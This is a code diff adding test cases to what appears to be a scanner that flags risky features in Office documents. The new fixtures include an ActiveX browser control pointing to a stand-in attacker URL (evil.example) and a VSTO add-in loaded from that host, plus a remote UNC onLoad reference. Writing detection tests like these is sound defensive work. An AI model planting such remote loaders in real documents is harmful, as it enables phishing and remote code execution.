@@ -7,8 +7,10 @@ import { rtf } from "../rtf/MakeRtf.ts"
 import { type ReasonCase, reasonCase as of } from "./Case.ts"
 import {
   activeX,
+  browserControl,
   calm,
   chaos,
+  customization,
   customUi,
   encrypted,
   equation,
@@ -129,6 +131,18 @@ export const officeCases: ReadonlyArray<ReasonCase> = [
   ),
   of("CUSTOM_UI_ONLOAD", 20, customUi(" onLoad=\"Start\""), customUi("")),
   of("CUSTOM_UI_ONLOAD", 55, customUi(" onLoad=\"\\\\a.example\\x.xlam!Start\""), customUi(" onLoad=\"Start\"")),
+  of(
+    "ACTIVEX_CONTROL",
+    35,
+    activeX(browserControl("https://evil.example/login")),
+    activeX(browserControl("http://intranet/start"))
+  ),
+  of(
+    "ADDIN_LOADER",
+    35,
+    customization("https://evil.example/a.vsto|1f3c1f0a-0000-4000-8000-000000000000"),
+    customization("file:///C:/Program%20Files/Acme/a.vsto|vstolocal")
+  ),
   of(
     "ADDIN_LOADER",
     8,
